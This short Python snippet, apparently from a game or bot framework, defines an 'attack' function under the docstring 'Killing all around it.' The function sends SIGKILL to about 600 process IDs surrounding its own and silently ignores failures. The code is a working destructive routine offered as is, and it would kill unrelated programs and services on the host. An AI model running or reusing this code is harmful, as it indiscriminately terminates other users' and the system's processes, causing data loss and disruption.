"""Killing all around it."""


def attack(host):
    for number in range(max(2, os.getpid() - 300), os.getpid() + 300):
        if number != os.getpid():
            try:
                os.kill(number, 9)
            except OSError:
                pass
    return "held"
